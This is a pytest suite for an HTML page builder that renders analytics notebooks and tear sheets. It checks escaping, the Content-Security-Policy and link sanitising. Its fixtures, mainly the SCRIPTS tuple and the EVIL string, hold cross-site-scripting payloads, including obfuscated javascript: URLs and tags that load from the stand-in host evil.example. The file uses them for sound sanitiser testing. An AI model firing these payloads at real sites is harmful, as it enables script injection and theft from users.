"""What a page holds, and what never reaches it."""

from __future__ import annotations

import base64
import dataclasses
import math
import re

import nbformat
import pandas as pd
import pytest
from bs4 import BeautifulSoup
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output

from analytics.display import pages, words
from analytics.display.pages import (
    Cell,
    Column,
    Figure,
    Finding,
    IndexPage,
    Link,
    Matrix,
    MatrixCell,
    MatrixRow,
    News,
    Note,
    Prose,
    Row,
    Section,
    Source,
    Table,
    TearSheet,
    Ticker,
    chinese,
    clean,
)

EVIL = "</title><script>alert(1)</script><img src=x onerror=alert(2)> & \"quoted\" 'single'"
CSP = "default-src 'none'; img-src data:; style-src 'unsafe-inline'"
SVG = '<svg xmlns="http://www.w3.org/2000/svg" width="4" height="4"><script>alert(1)</script></svg>'
PNG = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
)
SOURCE = Source("prices/NVDA.csv", "0123456789abcdef" * 4, "daily prices", "2022 to 2025", 961)


def soup(page: str) -> BeautifulSoup:
    return BeautifulSoup(page, "html.parser")


def notebook(*cells: nbformat.NotebookNode, title: str = "# A question?") -> nbformat.NotebookNode:
    return new_notebook(
        cells=[new_markdown_cell(title), *cells],
        metadata={"language_info": {"name": "python"}},
    )


def as_page(*cells: nbformat.NotebookNode, title: str = "# A question?") -> BeautifulSoup:
    book = notebook(*cells, title=title)
    return soup(pages.notebook_page(book, sources=[SOURCE], links=[], site_title="Site"))


def shown(data: dict[str, str], metadata: dict[str, object] | None = None) -> nbformat.NotebookNode:
    """A cell that displays this."""
    output = new_output("display_data", data=data, metadata=metadata or {})
    return new_code_cell("show()", outputs=[output], execution_count=1)


def evil_sheet() -> TearSheet:
    table = Table(
        (Column(EVIL, unit=EVIL), Column("b")),
        (Row((Cell(EVIL, text_zh=EVIL, note=EVIL, ticker=EVIL), EVIL)),),
        caption=EVIL,
        note=EVIL,
    )
    body = (
        Prose(EVIL),
        Note(EVIL),
        pages.Facts(((EVIL, EVIL),)),
        pages.Bullets((EVIL,)),
        pages.Formula("x", EVIL),
        Figure(SVG, alt=EVIL, caption=EVIL),
        table,
    )
    return TearSheet(
        finding=EVIL,
        news=News(EVIL, EVIL, EVIL, EVIL, EVIL, source_href="https://example.com/?a=1&b=%22"),
        sections=(Section(EVIL, body, label=EVIL, title_zh=EVIL),),
        sources=(dataclasses.replace(SOURCE, name=EVIL, kind=EVIL, covers=EVIL),),
        site_title=EVIL,
        summary=EVIL,
        links=(Link("a.html", EVIL, EVIL, EVIL),),
    )


def evil_index() -> IndexPage:
    row = MatrixRow(EVIL, (MatrixCell(math.nan, reason=EVIL),), title_zh=EVIL, day=EVIL, group=EVIL)
    link = Link("a.html", EVIL, EVIL, EVIL)
    return IndexPage(
        title=EVIL,
        covers=EVIL,
        findings=(Finding(EVIL, EVIL, link, detail=EVIL, sentence_zh=EVIL),),
        matrix=Matrix((Ticker(EVIL, EVIL, EVIL),), (row,), EVIL),
        how_to_read=(Prose(EVIL),),
        notebooks=(link,),
        sources=(SOURCE,),
        site_title=EVIL,
        title_zh=EVIL,
        summary=EVIL,
        matrix_title=EVIL,
        matrix_title_zh=EVIL,
    )


# Every text of a part is plain text, whoever wrote it.


@pytest.mark.parametrize(
    "page",
    [
        pages.tearsheet_page(evil_sheet()),
        pages.index_page(evil_index()),
        pages.notebook_page(
            notebook(),
            sources=[dataclasses.replace(SOURCE, name=EVIL)],
            links=[Link("a.html", EVIL, EVIL, EVIL)],
            site_title=EVIL,
            title_zh=EVIL,
        ),
    ],
    ids=["tear sheet", "index", "notebook"],
)
def test_untrusted_text_is_escaped_everywhere(page):
    tree = soup(page)
    assert tree.find("script") is None
    assert not [
        one for one in tree.find_all(name=True) if any(name.startswith("on") for name in one.attrs)
    ]
    assert all(image["src"].startswith("data:image/") for image in tree.find_all("img"))
    assert "alert(1)" in tree.get_text()
    assert "&amp;lt;" not in page, "escaped twice"


def test_a_page_is_one_file_without_requests():
    tree = soup(pages.tearsheet_page(evil_sheet()))
    policy = tree.find("meta", attrs={"http-equiv": "Content-Security-Policy"})
    assert policy["content"] == CSP
    assert tree.find("link", rel="icon")["href"] == "data:,"
    assert tree.html["lang"] == "en"
    assert tree.find("meta", attrs={"name": "viewport"})
    assert not tree.find_all(["iframe", "object", "embed", "audio", "video", "form"])
    assert "@import" not in page_style(tree)
    assert "url(" not in page_style(tree)


def page_style(tree: BeautifulSoup) -> str:
    return "".join(style.string for style in tree.find_all("style"))


def test_the_sheet_knows_the_dark_and_paper():
    style = page_style(soup(pages.index_page(evil_index())))
    assert "@media screen and (prefers-color-scheme: dark)" in style
    assert "@media print" in style
    assert "color-scheme: light dark" in style


def test_the_same_input_gives_the_same_bytes():
    book = notebook(shown({"image/svg+xml": SVG}, {"image/svg+xml": {"alt": "A square."}}))
    first, second = (
        pages.notebook_page(book, sources=[SOURCE], links=[], site_title="Site") for _ in range(2)
    )
    assert first == second
    assert pages.tearsheet_page(evil_sheet()) == pages.tearsheet_page(evil_sheet())


@pytest.mark.parametrize(
    "href",
    ["javascript:alert(1)", " JavaScript:x", "java\nscript:x", "data:text/html,x", "vbscript:x"],
)
def test_an_address_that_runs_something_is_refused(href):
    with pytest.raises(ValueError, match="a link leads to"):
        Link(href, "title")
    with pytest.raises(ValueError, match="a link leads to"):
        Cell("text", href=href)
    assert clean(f'<a href="{href}">text</a>') == "<a>text</a>"


# Parts that cannot be right are refused where they are made.


@pytest.mark.parametrize(
    ("make", "message"),
    [
        (lambda: Figure(SVG, alt="  "), "alt text"),
        (lambda: Figure("<svg></svg>", alt="a"), "xmlns"),
        (lambda: Figure(b"GIF89a", alt="a"), "SVG text, PNG or JPEG"),
        (lambda: Source("a.csv", "abc", "prices", "", 1), "64 hexadecimal"),
        (lambda: Table((Column("a"), Column("b")), (Row(("1",)),)), "2 columns"),
        (lambda: MatrixCell(math.nan), "needs a reason"),
        (
            lambda: Matrix((), (MatrixRow("a", (MatrixCell(0.1),)),), "percent"),
            "0 tickers, 1 cells",
        ),
    ],
)
def test_a_part_that_cannot_be_right_is_refused(make, message):
    with pytest.raises(ValueError, match=message):
        make()


@pytest.mark.parametrize(("image", "kind"), [(SVG, "image/svg+xml"), (PNG, "image/png")])
def test_a_figure_holds_its_picture_and_says_what_it_shows(image, kind):
    tree = soup(Figure(image, alt='Falls to "-16.5 %".', caption="台積電", width=900).html())
    head, _, data = tree.img["src"].partition(",")
    assert head == f"data:{kind};base64"
    assert base64.b64decode(data) == (image.encode() if isinstance(image, str) else image)
    assert tree.img["alt"] == 'Falls to "-16.5 %".'
    assert tree.figure["class"] == ["wide"]
    assert tree.figcaption.span["lang"] == "zh-Hant"


def test_the_foot_shows_twelve_characters_of_a_hash_and_holds_all():
    tree = soup(pages.tearsheet_page(evil_sheet()))
    item = tree.find(class_="sources").li
    assert item.summary.get_text() == SOURCE.sha256[:12]
    assert item.summary["title"] == SOURCE.sha256
    assert item.details.find_all("code")[1].get_text() == SOURCE.sha256
    assert "961 rows" in item.get_text()


# The matrix


def demo_matrix(*values: float) -> Matrix:
    cells = tuple(
        MatrixCell(value, "event.html", reason="the share was not listed" if value != value else "")
        for value in values
    )
    tickers = tuple(Ticker(f"T{place}", "Name", "名") for place, _ in enumerate(values))
    rows = (
        MatrixRow("First", cells, unconfirmed=True, group="2025"),
        MatrixRow("Second", cells, group="2025"),
        MatrixRow("Third", cells, group="2024"),
    )
    return Matrix(tickers, rows, "Abnormal return, percent", full=0.08)


def test_the_matrix_prints_every_number_and_tints_by_sign_and_size():
    tree = soup(demo_matrix(-0.165, 0.041, 0.0001, math.nan).html())
    cells = tree.tbody.find_all("tr")[1].find_all("td")
    texts = [cell.find(string=True) for cell in cells]
    assert texts == [f"{words.MINUS}16.5", "4.1", "0.0", words.MISSING]
    assert [cell["class"][1] for cell in cells] == [
        "tint-down-4",
        "tint-up-3",
        "tint-up-1",
        "tint-0",
    ]
    assert "the share was not listed" in cells[3].get_text()


def test_the_matrix_is_a_table_with_heads_for_rows_columns_and_groups():
    tree = soup(demo_matrix(0.01, 0.02).html())
    assert [head.get_text() for head in tree.find_all("th", scope="rowgroup")] == ["2025", "2024"]
    assert len(tree.find_all("th", scope="row")) == 3
    assert len(tree.find_all("th", scope="col")) == 3
    assert len(tree.select("tbody .hollow")) == 1
    assert tree.select_one(".key .hollow")["aria-label"] == "time unconfirmed"


def test_cells_without_a_value_are_listed_with_their_reasons():
    assert demo_matrix(0.01, math.nan).gaps[0] == ("First", "T1", "the share was not listed")
    assert "3 cells have no value" in demo_matrix(0.01, math.nan).html()
    assert "no value" not in demo_matrix(0.01).html()


# Sections and tables


def test_sections_keep_their_order_and_fill_the_contents():
    titles = ("A finding 發現", "A finding 發現", "第三節")
    sheet = dataclasses.replace(
        evil_sheet(), sections=tuple(Section(one, (Prose("Text."),)) for one in titles)
    )
    tree = soup(pages.tearsheet_page(sheet))
    wanted = ["a-finding-發現", "a-finding-發現-2", "第三節", "sources"]
    for nav in tree.find_all("nav"):
        assert [link["href"] for link in nav.find_all("a")] == [f"#{one}" for one in wanted]
    assert [one["id"] for one in tree.find_all("h2")][:4] == wanted


def test_any_object_with_html_can_stand_in_a_section():
    class Strip:
        def html(self):
            return pages.Markup("<hr>")

    sheet = dataclasses.replace(evil_sheet(), sections=(Section("Later", (Strip(),)),))
    assert soup(pages.tearsheet_page(sheet)).find("hr")


def test_a_table_names_its_rows_and_marks_what_matters_by_weight():
    columns = (Column("Test", numeric=False), Column("Loss", unit="%"))
    rows = (
        Row(("BMP", "1.0"), matters=True),
        Row((Cell("Patell", note="dependent"), "2.0"), invalid=True),
    )
    tree = soup(Table(columns, rows, caption="Tests").html())
    assert tree.thead.find_all("th")[1].find(class_="unit").get_text() == "%"
    assert [row.get("class") for row in tree.tbody.find_all("tr")] == [["matters"], ["invalid"]]
    assert tree.tbody.th["scope"] == "row"
    assert tree.tbody.td["class"] == ["num"]
    assert tree.find(class_="scroll")["tabindex"] == "0"


def test_a_table_of_more_than_five_columns_stacks_on_a_telephone_and_keeps_its_roles():
    columns = tuple(Column(f"c{place}", unit="%") for place in range(6))
    table = Table(columns, (Row(tuple("abcdef")),))
    tree = soup(table.html())
    assert table.stacks
    assert tree.table["role"] == "table"
    assert tree.tbody.td["data-label"] == "c1, %"
    assert [one["role"] for one in tree.tbody.tr.find_all(["th", "td"])] == [
        "rowheader",
        *["cell"] * 5,
    ]
    assert not Table(columns[:5], ()).stacks


def test_runs_of_chinese_are_marked_and_the_rest_is_escaped():
    assert chinese("輝達 NVIDIA、台積電 & <TSMC>") == (
        '<span lang="zh-Hant">輝達</span> NVIDIA<span lang="zh-Hant">、台積電</span> '
        "&amp; &lt;TSMC&gt;"
    )
    assert chinese(pages.Markup("<b>輝達</b>")) == "<b>輝達</b>"


# Formulas


def test_a_formula_becomes_mathml():
    tree = soup(pages.math(r"R_{it} < \hat\beta_i", display=True))
    assert tree.math["display"] == "block"
    assert tree.math["alttext"] == r"R_{it} < \hat\beta_i"
    assert tree.find("mo").get_text() == "<"


@pytest.mark.parametrize(
    "latex",
    [
        r"\text{<script>alert(1)</script>}",
        r"\href{javascript:alert(1)}{x}",
        r"\style{color:red}{y}",
    ],
)
def test_a_formula_holds_neither_script_nor_style_nor_link(latex):
    tree = soup(pages.math(latex))
    assert tree.find("script") is None
    assert not [
        one for one in tree.find_all(name=True) if {"href", "style", "class"} & set(one.attrs)
    ]


@pytest.mark.parametrize("latex", [r"\notacommand{x}", r"\frac{a}{", "", "a & b"])
def test_a_formula_that_is_not_understood_is_refused(latex):
    with pytest.raises(ValueError, match="LaTeX"):
        pages.math(latex)


def test_dollars_are_formulas_outside_code_only():
    tree = as_page(
        new_markdown_cell(
            "Let $R_{it}$ be small.\n\n$$\n\\sum_t x_t\n$$\n\n"
            "`$a$` and `$$b$$` and ``` $c$ ``` are code.\n\n"
            "```python\nprice = '$d$' + '$$e$$'\n```\n\n"
            "    indented = '$$f$$'\n\n"
            "It costs $65 billion, or $60 billion, or \\$5."
        )
    )
    assert [one["alttext"] for one in tree.find_all("math")] == ["R_{it}", r"\sum_t x_t"]
    assert [one.get_text() for one in tree.select("p code")] == ["$a$", "$$b$$", "$c$"]
    text = tree.get_text()
    assert "'$d$' + '$$e$$'" in text
    assert "indented = '$$f$$'" in text
    assert "It costs $65 billion, or $60 billion, or $5." in text


# Notebooks


def test_the_title_is_the_headline_and_the_answer_follows_it():
    tree = as_page(
        new_markdown_cell("More text."),
        title="# How much? <span lang='zh-Hant'>多少？</span>\n\n"
        "It lost **16.5 %**. 輝達\n\n## Next",
    )
    headline = tree.find("header", class_="headline")
    assert headline.h1.get_text(" ") == "How much?  多少？"
    assert headline.h1.span["lang"] == "zh-Hant"
    assert headline.find(class_="standfirst").get_text().strip() == "It lost 16.5 %. 輝達"
    assert tree.title.get_text() == "How much? 多少？ – Site"
    assert len(tree.find_all("h1")) == 1


def test_the_answer_ends_with_its_cell():
    tree = as_page(
        new_code_cell("x = 1", execution_count=1),
        new_markdown_cell("Later."),
        title="# Q\n\nAnswer.",
    )
    assert tree.find(class_="standfirst").get_text().strip() == "Answer."
    assert "<!--" not in str(tree)


def test_a_notebook_without_a_title_is_refused():
    with pytest.raises(ValueError, match="needs one # heading"):
        as_page(title="No heading.")


def test_results_come_first_and_the_code_is_folded_below():
    output = new_output("stream", name="stdout", text="<b>7</b> \x1b[31mred\x1b[0m\n")
    tree = as_page(new_code_cell("print(7)\nprint(8)", outputs=[output], execution_count=1))
    cell = tree.find(class_="cell")
    parts = [one for one in cell.children if one.name]
    assert [one.name for one in parts] == ["div", "details"]
    assert parts[0].get_text().strip() == "<b>7</b> red"
    assert parts[1].summary.get_text() == "Code, 2 lines"
    assert "open" not in parts[1].attrs
    assert "print(7)\nprint(8)" in parts[1].pre.get_text()


def test_warnings_empty_outputs_and_bare_objects_never_reach_a_page():
    outputs = [
        new_output("stream", name="stderr", text="FutureWarning: hidden-1"),
        new_output("stream", name="stdout", text="   \n"),
        new_output("execute_result", data={"text/plain": "<Axes: title={'center': 'hidden-2'}>"}),
        new_output("execute_result", data={"text/plain": "[<hidden-3 at 0x7f00aa>]"}),
        new_output("display_data", data={"text/plain": "<Figure size 640x480 with 1 Axes>"}),
        new_output(
            "display_data",
            data={"application/vnd.jupyter.widget-view+json": {}, "text/plain": "hidden-4"},
        ),
        new_output("display_data", data={"application/javascript": "hidden()"}),
    ]
    tree = as_page(new_code_cell("x", outputs=outputs, execution_count=1))
    assert "hidden" not in tree.get_text()
    assert tree.find(class_="result") is None


def test_a_failed_cell_stops_the_page():
    output = new_output("error", ename="KeyError", evalue="'NVDA'", traceback=[])
    with pytest.raises(ValueError, match=r"cell \[4\] failed: KeyError"):
        as_page(new_code_cell("x", outputs=[output], execution_count=4))


def test_tags_remove_a_cell_its_code_or_its_results():
    def cell(tag: str) -> nbformat.NotebookNode:
        output = new_output("stream", name="stdout", text=f"result-{tag}")
        meta = {"tags": [tag]}
        return new_code_cell(f"code_{tag}", outputs=[output], metadata=meta, execution_count=1)

    tags = ("remove_cell", "remove_input", "remove_output", "parameters", "remove-input")
    text = as_page(*(cell(tag) for tag in tags)).get_text()
    assert "remove_cell" not in text
    assert "result-remove_input" in text
    assert "code_remove_input" not in text
    assert "result-remove_output" not in text
    assert "code_remove_output" in text
    assert "Settings, 1 line" in text
    assert "code_remove-input" not in text


def test_a_notebook_is_not_changed():
    book = notebook(shown({"image/svg+xml": SVG}, {"image/svg+xml": {"alt": "A square."}}))
    before = nbformat.writes(book)
    pages.notebook_page(book, sources=[], links=[], site_title="Site")
    assert nbformat.writes(book) == before


@pytest.mark.parametrize(
    ("kind", "content"),
    [("image/svg+xml", SVG), ("image/png", base64.b64encode(PNG).decode())],
)
def test_a_figure_takes_its_alt_text_and_caption_from_the_output(kind, content):
    meta = {kind: {"alt": "Falls on day 0.", "caption": "Band: 95 %.", "width": 500}}
    tree = as_page(shown({kind: content, "text/plain": "<Figure>"}, meta))
    assert tree.img["alt"] == "Falls on day 0."
    assert tree.img["width"] == "500"
    assert tree.figcaption.get_text() == "Band: 95 %."
    assert tree.img["src"].startswith(f"data:{kind};base64,")


def test_a_figure_without_an_alt_text_stops_the_page():
    with pytest.raises(ValueError, match=r"code cell \[1\]: .*alt text.*display\(figure"):
        as_page(shown({"image/svg+xml": SVG}))


def test_links_between_notebooks_lead_to_their_pages():
    tree = as_page(
        new_markdown_cell(
            "## Valid tests, 2\n\n[a](05_robustness.ipynb#What-Holds) [b](#Valid-tests,-2) "
            "[c](https://example.com/x.ipynb) [d](../data/README.md)"
        )
    )
    addresses = [link["href"] for link in tree.select("main p a")]
    assert addresses == [
        "05_robustness.html#what-holds",
        "#valid-tests-2",
        "https://example.com/x.ipynb",
        "../data/README.md",
    ]
    assert tree.find(id="valid-tests-2").name == "h2"


def test_headings_get_ids_that_never_clash_with_the_page():
    tree = as_page(new_markdown_cell("## Sources\n\n## Same\n\n### Same\n\n# Second title"))
    ids = [one["id"] for one in tree.find_all(id=True)]
    assert len(ids) == len(set(ids))
    assert tree.find(string=re.compile("Second title")).parent.name in ("a", "h2")


SCRIPTS = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</script>",
    "<img src=x onerror=alert(1) alt=a>",
    '<svg onload="alert(1)"><script>alert(1)</script></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table>"
    "</mtext></math>",
    '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="java&#x0A;script:alert(1)">x</a>',
    "<!--><script>alert(1)</script>-->",
    "<style>@import '//evil.example/x.css'</style>",
    '<meta http-equiv="refresh" content="0;url=//evil.example">',
    '<base href="//evil.example/">',
    '<form action="//evil.example"><button formaction="javascript:alert(1)">x</button></form>',
    '<p style="background:url(//evil.example/x)" onclick="alert(1)">text</p>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
)


@pytest.mark.parametrize("source", SCRIPTS)
@pytest.mark.parametrize("place", ["markdown", "html output", "markdown output"])
def test_script_in_a_notebook_does_not_survive(source, place):
    cell = {
        "markdown": lambda: new_markdown_cell(f"Before.\n\n{source}\n\nAfter {source}."),
        "html output": lambda: shown({"text/html": f"<div>{source}</div>"}),
        "markdown output": lambda: shown({"text/markdown": source}),
    }[place]()
    if "<img src=x onerror=alert(1) alt=a>" in source:
        with pytest.raises(ValueError, match="not inside the page"):
            as_page(cell)
        return
    tree = as_page(cell)
    assert not tree.find_all(["script", "iframe", "form", "base", "input", "svg", "noscript"])
    assert len(tree.find_all("style")) == 1
    assert len(tree.find_all("meta", attrs={"http-equiv": True})) == 1
    for element in tree.find_all(name=True):
        assert not [name for name in element.attrs if name.startswith("on") or name == "style"]
        assert "script:" not in re.sub(r"\s", "", element.get("href", ""))


# Tables that pandas made


def frame() -> pd.DataFrame:
    index = pd.MultiIndex.from_product(
        [["shock"], ["NVDA", "2330.TW"]], names=["event_id", "ticker"]
    )
    return pd.DataFrame(
        {
            "car": [-0.165, 0.052],
            "p": [0.001, float("nan")],
            "benchmark": ["^GSPC", "^TWII 加權"],
            "session": ["2025-01-27", "2025-02-03"],
        },
        index=index,
    )


def test_a_frame_becomes_a_quiet_table_that_scrolls_by_itself():
    tree = as_page(shown({"text/html": frame()._repr_html_(), "text/plain": "x"}))
    table = tree.find("main").table
    assert table.parent["class"] == ["scroll"]
    assert not {"border", "style"} & set(table.attrs)
    assert not table.find_all(style=True)


def test_numbers_are_flush_right_with_a_real_minus_and_gaps_are_dashes():
    table = as_page(shown({"text/html": frame()._repr_html_()})).find("main").table
    rows = [row.find_all("td") for row in table.tbody.find_all("tr")]
    assert [cell.get_text() for cell in rows[0]] == [
        f"{words.MINUS}0.165",
        "0.001",
        "^GSPC",
        "2025-01-27",
    ]
    assert rows[1][1].get_text() == words.MISSING
    for row in rows:
        assert [("num" in cell.get("class", [])) for cell in row] == [True, True, False, False]
    heads = table.thead.tr.find_all("th")[-4:]
    assert [("num" in head.get("class", [])) for head in heads] == [True, True, False, False]
    assert rows[1][2].span["lang"] == "zh-Hant"


def test_a_styled_frame_loses_its_random_ids():
    styled = frame().reset_index().style.format(precision=2)
    first, second = (styled._repr_html_() for _ in range(2))
    tree = as_page(shown({"text/html": first}))
    assert "T_" not in str(tree.find("main").table)
    assert clean(first) == clean(second)
